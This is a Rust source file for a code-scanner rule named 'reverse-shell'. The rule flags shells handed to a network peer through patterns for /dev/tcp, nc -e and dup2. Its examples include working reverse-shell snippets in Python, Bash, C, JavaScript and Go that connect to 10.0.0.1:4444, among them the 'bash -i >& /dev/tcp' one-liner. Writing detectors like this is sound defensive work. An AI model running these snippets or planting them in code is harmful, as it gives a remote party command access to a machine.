//! A shell that is handed to somebody on the network.

use super::MALICIOUS;
use crate::file::{File, Report};
use crate::rules::security::calls::{calls, path, text};
use crate::rules::{Info, Rule};
use formicary_model::Language;
use formicary_syntax::ExprKind;

pub(super) const RULE: Rule = Rule { info: &INFO, check };

static INFO: Info = Info {
    name: "reverse-shell",
    title: "A shell that is handed to somebody on the network",
    why: "Whoever is at the other end of the connection types commands on this machine.",
    suggestion: "Do not run it. Find out who wrote it and where else it is.",
    languages: &[
        Language::Python,
        Language::Bash,
        Language::C,
        Language::Cpp,
        Language::JavaScript,
        Language::TypeScript,
        Language::Go,
    ],
    examples: &[
        (
            Language::Python,
            "import os, socket, subprocess\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])\n",
            "import os, subprocess\nos.dup2(f.fileno(), 1)\nsubprocess.call(['/bin/sh', '-c', 'ls'])\n",
        ),
        (Language::Bash, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n", "echo a > /dev/null\n"),
        (
            Language::C,
            "void f(int s) { connect(s, a, 9); dup2(s, 0); dup2(s, 1); execve(\"/bin/sh\", 0, 0); }",
            "void f(int s) { dup2(s, 1); execve(\"/bin/sh\", 0, 0); }",
        ),
        (
            Language::JavaScript,
            "const net = require('net'), cp = require('child_process'); const sh = cp.spawn('/bin/sh', []); const c = new net.Socket(); c.connect(4444, '10.0.0.1', () => { c.pipe(sh.stdin); sh.stdout.pipe(c) })",
            "const cp = require('child_process'); const sh = cp.spawn('/bin/sh', []); sh.stdout.pipe(process.stdout)",
        ),
        (
            Language::Go,
            "package a\nfunc f() { c, _ := net.Dial(\"tcp\", \"10.0.0.1:4444\"); cmd := exec.Command(\"/bin/sh\"); cmd.Stdin = c; cmd.Stdout = c; cmd.Run() }",
            "package a\nfunc f() { cmd := exec.Command(\"/bin/sh\"); cmd.Stdin = os.Stdin; cmd.Run() }",
        ),
    ],
    ..MALICIOUS
};

fn check(file: &File<'_, '_>, report: &mut Report<'_>) {
    let unit = file.unit;
    if file.language() == Language::Bash {
        for (_, stmt) in unit.stmts() {
            let formicary_syntax::StmtKind::Other { expressions, body } = &stmt.kind else { continue };
            let network = expressions.iter().any(|id| {
                let written = unit.text(unit.expr(*id).span);
                written.contains("/dev/tcp/") || written.contains("/dev/udp/")
            });
            let shell = body.iter().any(|id| {
                let words = unit.text(unit.stmt(*id).span);
                words.starts_with("bash -i")
                    || words.starts_with("sh -i")
                    || words.starts_with("/bin/bash -i")
                    || words.starts_with("/bin/sh -i")
            });
            if network && shell {
                report.find(stmt.span, "the shell goes to the other end of the connection");
            }
        }
        for call in calls(file, &["nc", "ncat", "netcat"]) {
            let words: Vec<&str> =
                call.arguments.iter().map(|a| unit.text(unit.expr(a.value).span)).collect();
            if words.iter().any(|word| matches!(*word, "-e" | "-c"))
                && words.iter().any(|word| word.ends_with("sh"))
            {
                report.find(call.span, "the shell goes to the other end of the connection");
            }
        }
        return;
    }
    let is_shell = |text: &str| {
        matches!(text, "/bin/sh" | "/bin/bash" | "bash" | "sh" | "cmd.exe" | "powershell.exe" | "//bin/sh")
    };
    let Some(shell) =
        unit.exprs().find(|(id, _)| text(file, *id).is_some_and(is_shell)).map(|(_, expr)| expr.span)
    else {
        return;
    };
    let connects = calls(file, &["connect", "create_connection", "Dial", "Socket"]);
    if connects.is_empty() {
        return;
    }
    let bound = match file.language() {
        Language::Python | Language::C | Language::Cpp => calls(file, &["dup2"]).len() >= 2,
        Language::Go => {
            super::super::security::calls::named(file, &["Stdin", "Stdout"]).iter().any(|(_, value)| {
                connects
                    .iter()
                    .any(|call| assigned_to(file, call.span) == unit.name_of(*value).map(str::to_owned))
            })
        }
        _ => {
            let pipes = calls(file, &["pipe"]);
            let net = connects.iter().any(|call| call.path.contains("net.") || call.method() == "connect");
            net && pipes
                .iter()
                .any(|call| call.first().is_some_and(|first| path(file, first).ends_with(".stdin")))
        }
    };
    if bound {
        report.find(shell, "this shell is tied to a connection");
    }
}

/// The first name that a call's statement writes.
fn assigned_to(file: &File<'_, '_>, span: formicary_syntax::Span) -> Option<String> {
    let unit = file.unit;
    unit.stmts().find_map(|(_, stmt)| match &stmt.kind {
        formicary_syntax::StmtKind::Assign { targets, value: Some(value), .. }
            if unit.expr(*value).span == span =>
        {
            let first = *targets.first()?;
            match unit.kind(first) {
                ExprKind::Collection { items, .. } => unit.name_of(items.first()?.value).map(str::to_owned),
                _ => unit.name_of(first).map(str::to_owned),
            }
        }
        _ => None,
    })
}
